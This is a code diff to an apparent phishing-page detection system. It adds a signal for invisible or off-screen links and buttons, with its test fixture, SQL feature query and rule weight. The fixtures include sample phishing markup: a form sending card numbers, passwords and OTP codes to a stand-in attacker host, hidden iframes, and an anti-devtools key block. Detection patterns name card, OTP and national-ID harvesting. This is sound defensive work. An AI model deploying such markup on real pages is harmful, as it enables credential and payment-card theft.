@@ -23,7 +23,7 @@ HTML = {
     3: '<form action="https://c.evil.xyz/x"><input name="cardnumber" type="text"><input type="password" name="p"><input name="otp" type="text"></form>',
     4: '<form action="/self"><input name="idno" placeholder="A123456789" type="text"><input name="cvv" type="text"><input autocomplete="one-time-code" name="code" type="text"></form>',
     5: '<form action="/w"><input type="password" name="k">' + "".join(f'<input type="text" name="w{i}">' for i in range(1, 13)) + "</form>",
-    6: '<iframe src="https://h.example.com/" style="display:none"></iframe><iframe src="https://h2.example.com/" width="1" height="1"></iframe>',
+    6: '<iframe src="https://h.example.com/" style="display:none"></iframe><iframe src="https://h2.example.com/" width="1" height="1"></iframe><a href="/x" style="opacity: 0">x</a><button style="position:absolute;left:-9999px">y</button>',
     7: "".join(f'<script src="https://cdn{i}.site{i}.com/a.js"></script>' for i in range(6)),
     8: '<script>document.onkeydown=function(e){if(e.keyCode == 123){return false}}</script>',
     9: '<div class="cf-turnstile" data-sitekey="k"></div>',
@@ -180,13 +180,13 @@ def dom(d) -> str:
         f"{d.any(inputs, 'i', f"instr({attr(d, 'i', 'autocomplete')}, 'one-time-code') > 0 OR {d.rx(attr(d, 'i', 'name'), '^(otp|otpcode|otp-code|one[-_]?time|2fa|tfa|verifycode|verification[-_]?code)$|(^|[-_])otp([-_]|$)')}")} AS has_otp, "
         f"{d.any(inputs, 'i', f"{d.rx(attr(d, 'i', 'autocomplete'), 'cc-number|^cc-csc$|^cc-exp$')} OR {d.rx(name, 'card|cc-number|ccnumber|cvv|cvc|csc|securitycode|security-code')} OR {d.rx(f'lower({place})', 'card number|信用卡|卡號')}")} AS has_card, "
         f"{d.any(inputs, 'i', f"{d.rx(name, 'idno|idnum|id-number|nationalid|national-id|twid|tw-id|personid|person-id|身分證|身份證|統一編號|統編')} OR {d.rx(place, '身分證|身份證|統一編號|統編')} OR {d.rx(place, '(^|[^A-Za-z0-9])[A-Z][12][0-9]{8}($|[^A-Za-z0-9])')}")} AS has_id, "
-        f"{seed} AS seed_grid, CAST({d.size(d.all('html', '<iframe[^>]*(display: *none|visibility: *hidden|width="[01]" height="[01]")[^>]*>'))} AS BIGINT) AS hidden_iframes, "
+        f"{seed} AS seed_grid, CAST({d.size(d.all('html', '<iframe[^>]*(display: *none|visibility: *hidden|width="[01]" height="[01]")[^>]*>'))} AS BIGINT) AS hidden_iframes, CAST({d.size(d.all('html', '<(a|button|form) [^>]*style="[^"]*(opacity: *0(;|"| )|(left|top): *-[0-9]{4,}px)'))} AS BIGINT) AS tiny_elements, "
         f"{d.rx('html', r'<(body|html)[^>]*on(contextmenu|keydown|keyup|keypress)="[^"]*(return +false|preventDefault *\()|keyCode *===? *123|disableContextMenu|noDevTools?')} AS anti_debug, "
         f"{d.rx('html', r'class="[^"]*cf-turnstile|challenges\.cloudflare\.com/turnstile')} AS turnstile, {d.rx('html', r'class="[^"]*h-captcha|hcaptcha\.com')} AS hcaptcha, CAST({d.size(d.distinct(d.map(forms, 'fo', attr(d, 'fo', 'action'))))} AS BIGINT) AS n_actions FROM u), "
         f"l0 AS ({d.unnest('links', 'f0', 'page_id, etld1 AS page_site, host AS page_host', 'link')}), l1 AS (SELECT page_id, page_site, page_host, split_part(link, ':', 1) AS kind, split_part(link, ':', 2) AS lhost FROM l0), {with_site(d, 'l1', 'l2', 'lhost')}, "
         f"l3 AS (SELECT page_id, count(DISTINCT CASE WHEN kind = 'action' AND etld1 <> coalesce(page_site, '') AND etld1 NOT IN ({idp}) THEN etld1 END) AS n_cross, count(DISTINCT CASE WHEN kind = 'action' AND etld1 <> coalesce(page_site, '') AND etld1 IN ({idp}) THEN etld1 END) AS n_idp, "
         f"count(DISTINCT CASE WHEN kind = 'script' AND lhost <> page_host AND etld1 <> coalesce(page_site, '') THEN etld1 END) AS n_foreign, max(CASE WHEN kind = 'icon' THEN etld1 END) AS icon_site FROM l2 GROUP BY page_id), "
-        f"f AS (SELECT f0.page_id, url, label, scheme, host, etld1, title, substring(body, 1, 2000) AS text, CAST(length(body) AS BIGINT) AS body_len, has_pw, has_otp, has_card, has_id, seed_grid, hidden_iframes, anti_debug, turnstile, hcaptcha, n_actions, "
+        f"f AS (SELECT f0.page_id, url, label, scheme, host, etld1, title, substring(body, 1, 2000) AS text, CAST(length(body) AS BIGINT) AS body_len, has_pw, has_otp, has_card, has_id, seed_grid, hidden_iframes, tiny_elements, anti_debug, turnstile, hcaptcha, n_actions, "
         f"coalesce(n_cross, 0) AS n_cross, coalesce(n_idp, 0) AS n_idp, coalesce(n_foreign, 0) AS n_foreign, icon_site FROM f0 LEFT JOIN l3 ON f0.page_id = l3.page_id)"
     )
 
@@ -194,7 +194,7 @@ def dom(d) -> str:
 def dom_rules(d) -> list[tuple[str, str, str]]:
     """(id, weight, predicate over f) in emission order."""
     from .spec import DOM_SIGNALS as w
-    from .spec import HIDDEN_IFRAMES_CAP
+    from .spec import HIDDEN_IFRAMES_CAP, TINY_CAP
 
     terms = d.size(d.filter(d.arr(dims.MAINLAND_TERMS), "tm", "instr(text, tm) > 0"))
     claim = f"({d.any(d.arr(dims.TW_HINTS), 'hn', "instr(concat(title, ' ', text), hn) > 0")} OR coalesce(etld1 LIKE '%.tw', false) OR host LIKE '%.tw')"
@@ -213,6 +213,7 @@ def dom_rules(d) -> list[tuple[str, str, str]]:
         "dom.tw_national_id_cross_etld1_post": "has_id AND n_cross > 0",
         "dom.seed_phrase_grid": "seed_grid",
         "dom.hidden_iframes": "hidden_iframes > 0",
+        "dom.tiny_interactive": "tiny_elements > 0",
         "dom.many_foreign_scripts": "n_foreign > 5",
         "dom.anti_debug": "anti_debug",
         "dom.cross_strait_terms": f"{claim} AND {terms} BETWEEN 1 AND 2",
@@ -225,7 +226,7 @@ def dom_rules(d) -> list[tuple[str, str, str]]:
         "dom.bidi_override_in_text": d.rx(seen, BIDI),
         "dom.tag_char_in_text": d.rx(seen, TAGS),
     }
-    weights = dict(w) | {"dom.oauth_idp_allowlisted": 0, "dom.hidden_iframes": f"least({HIDDEN_IFRAMES_CAP}, {w['dom.hidden_iframes']} * hidden_iframes)"}
+    weights = dict(w) | {"dom.oauth_idp_allowlisted": 0, "dom.hidden_iframes": f"least({HIDDEN_IFRAMES_CAP}, {w['dom.hidden_iframes']} * hidden_iframes)", "dom.tiny_interactive": f"least({TINY_CAP}, {w['dom.tiny_interactive']} * tiny_elements)"}
     return [(k, str(weights[k]), f"coalesce({p}, false)") for k, p in preds.items()]
 
 
